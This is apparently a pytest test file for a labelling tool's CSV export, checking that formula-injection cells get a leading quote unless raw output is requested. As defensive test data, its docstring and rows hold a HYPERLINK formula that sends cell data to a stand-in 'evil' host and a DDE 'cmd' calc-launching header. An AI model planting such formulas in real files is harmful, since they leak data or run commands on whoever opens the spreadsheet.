"""CSV exports never hand a spreadsheet a formula to run (issue 13, item 3), on SQLite and PostgreSQL.

A cell that begins with ``=``, ``+``, ``-`` or ``@`` (or a tab or a carriage return) is run as a formula when the
file is opened in a spreadsheet: an uploaded value, an external id, a free-text label or a user name such as
``=HYPERLINK("http://evil/?"&A1,"open")`` would run on the admin's machine. OWASP's advice ("CSV Injection"): put
a single quote in front of such a cell. Every text cell and header of a CSV export gets one, by default; numbers
(and text that is a plain number, like ``-3.5``) stay as they are; a cell holding a line break is quoted, so it
stays one cell and never starts a new row; ``raw_csv=True`` (``superintendent export --raw-csv``) writes the values
as they are; JSON, JSON Lines and Parquet always do.
"""

from __future__ import annotations

import csv
import io
import json

import pandas as pd
import pytest

from superintendent import auth, cli, export, queue
from superintendent.store import session_scope
from superintendent.validation import ValidationError

FORMULA = '=HYPERLINK("http://127.0.0.1:9/?"&A1,"open")'
ROWS = [
    {"note": FORMULA, "amount": -3.5, "code": "-2+3", "count": "-7", "at": "@SUM(A1:A9)", "tabbed": "\t=1+1", "cr": "\r=1+1",
     "plus": "+1+1", "fine": "a cat", "inside": "ok\r=1+1\n@x", "=cmd|' /C calc'!A0": "x"},
    {"note": "plain", "amount": 2.0, "code": "ok", "count": "12", "at": "a@b", "tabbed": "t", "cr": "c", "plus": "p", "fine": "-",
     "inside": "",
     "=cmd|' /C calc'!A0": "=1"},
]
IDS = ["=1+1", "-5"]
OPTIONS = ["=cat", "+dog", "bird"]
PEOPLE = ["=eve", "@mallory"]


def _project(engine, mode="single"):
    with session_scope(engine) as s:
        project = queue.create_project(s, "sheet", data_type="tabular", options=OPTIONS, allow_free_text=True, label_mode=mode)
        queue.add_items(s, project, ROWS, external_ids=IDS)
        users = [auth.create_user(s, name, "correct horse battery", "labeller").id for name in PEOPLE]
    labels = {"single": ["=cat", "-1+2"], "multi": [["=cat", "bird"], ["bird", "+dog"]]}[mode]
    with session_scope(engine) as s:
        project = queue.get_project(s, project.id)
        for user, label in zip(users, labels):
            task = queue.claim_next(s, project, user)
            queue.submit(s, project, user, task.item_id, label)
    return project


def _cells(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def _guarded(value: str) -> str:
    return "'" + value


def test_a_csv_export_puts_a_quote_before_every_formula(engine):
    project = _project(engine)
    rows = _cells(export.export_labels(engine, project, "csv"))
    by_id = {r["item_id"]: r for r in rows}
    assert sorted(r["external_id"] for r in rows) == sorted([_guarded("=1+1"), "-5"])  # "-5" is a number, kept
    first = next(r for r in rows if r["external_id"] == _guarded("=1+1"))
    assert first["note"] == _guarded(FORMULA)
    assert first["amount"] == "-3.5"  # a number column: a number
    assert first["code"] == _guarded("-2+3") and first["count"] == "-7" and first["plus"] == _guarded("+1+1")
    assert first["at"] == _guarded("@SUM(A1:A9)") and first["tabbed"] == _guarded("\t=1+1") and first["cr"] == _guarded("\r=1+1")
    assert first["fine"] == "a cat"
    assert first["inside"] == "ok\r=1+1\n@x"  # a line break inside a cell is quoted: one cell, never a new row starting "=1+1"
    assert first["label"] == _guarded("=cat") and first["labelled_by"] == _guarded("=eve")
    second = next(r for r in rows if r["external_id"] == "-5")
    assert second["label"] == _guarded("-1+2") and second["labelled_by"] == _guarded("@mallory") and second["fine"] == _guarded("-")
    assert second[_guarded("=cmd|' /C calc'!A0")] == _guarded("=1")  # the header too
    assert len(by_id) == 2
    for row in rows:  # no cell a spreadsheet would run
        assert not any(v.startswith(export.tables.FORMULA_STARTS) and not _number(v) for v in [*row.values(), *row.keys()]), row


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_every_annotation_csv_and_multi_labels_are_guarded_too(engine):
    project = _project(engine, mode="multi")
    rows = _cells(export.export_labels(engine, project, "csv", individual=True))
    assert sorted(r["user"] for r in rows) == sorted(_guarded(p) for p in PEOPLE)
    assert sorted(r["label"] for r in rows) == sorted([_guarded("=cat;bird"), _guarded("+dog;bird")])
    assert sorted(r["external_id"] for r in rows) == sorted([_guarded("=1+1"), "-5"])
    table = _cells(export.export_labels(engine, project, "csv"))
    assert sorted(r["label"] for r in table) == sorted([_guarded("=cat;bird"), _guarded("+dog;bird")])


def test_raw_csv_json_and_parquet_hold_the_values_as_they_are(engine):
    project = _project(engine)
    raw = _cells(export.export_labels(engine, project, "csv", raw_csv=True))
    first = next(r for r in raw if r["external_id"] == "=1+1")
    assert first["note"] == FORMULA and first["label"] == "=cat" and first["labelled_by"] == "=eve" and first["tabbed"] == "\t=1+1"
    assert "=cmd|' /C calc'!A0" in first
    records = json.loads(export.export_labels(engine, project, "json"))
    assert {r["external_id"]: r["label"] for r in records} == {"=1+1": "=cat", "-5": "-1+2"}
    assert next(r for r in records if r["external_id"] == "=1+1")["amount"] == -3.5
    parquet = pd.read_parquet(io.BytesIO(export.export_labels(engine, project, "parquet")))
    assert sorted(parquet["external_id"]) == sorted(IDS) and "=cat" in set(parquet["label"])
    lines = [json.loads(line) for line in export.export_labels(engine, project, "jsonl").splitlines()]
    assert {line["external_id"] for line in lines} == set(IDS)
    assert {a["user"] for line in lines for a in line["annotations"]} == set(PEOPLE)


def test_raw_csv_is_an_option_of_csv_only(engine):
    project = _project(engine)
    for fmt in ("json", "parquet", "jsonl", "label-studio"):
        with pytest.raises(ValidationError, match="applies to the csv format"):
            export.export_labels(engine, project, fmt, raw_csv=True)


def test_the_command_line_guards_csv_unless_asked_for_raw(engine, db_url, tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("SUPERINTENDENT_DATA_DIR", str(tmp_path / "data"))
    _project(engine)
    guarded, raw = tmp_path / "labels.csv", tmp_path / "raw.csv"
    assert cli.main(["export", "sheet", "--format", "csv", "-o", str(guarded), "--database-url", db_url]) == 0
    assert cli.main(["export", "sheet", "--format", "csv", "--raw-csv", "-o", str(raw), "--database-url", db_url]) == 0
    assert sorted(r["external_id"] for r in _cells(guarded.read_bytes())) == sorted([_guarded("=1+1"), "-5"])
    assert sorted(r["external_id"] for r in _cells(raw.read_bytes())) == sorted(IDS)
    capsys.readouterr()
    assert cli.main(["export", "sheet", "--format", "json", "--raw-csv", "-o", str(tmp_path / "x.json"), "--database-url", db_url]) == 2
    assert "applies to the csv format" in capsys.readouterr().err
    assert not (tmp_path / "x.json").exists()


def test_neutralise_formula():
    neutralise = export.neutralise_formula
    assert [neutralise(v) for v in ["=1", "+a", "-a", "@a", "\tx", "\rx", "a=1", "", " =1"]] == \
        ["'=1", "'+a", "'-a", "'@a", "'\tx", "'\rx", "a=1", "", " =1"]
    assert [neutralise(v) for v in ["-3.5", "+1", "-2e3", "-.5", "-1-1", "--1", "-", "-inf"]] == \
        ["-3.5", "+1", "-2e3", "-.5", "'-1-1", "'--1", "'-", "'-inf"]
    assert neutralise(-3.5) == -3.5 and neutralise(None) is None and neutralise(True) is True
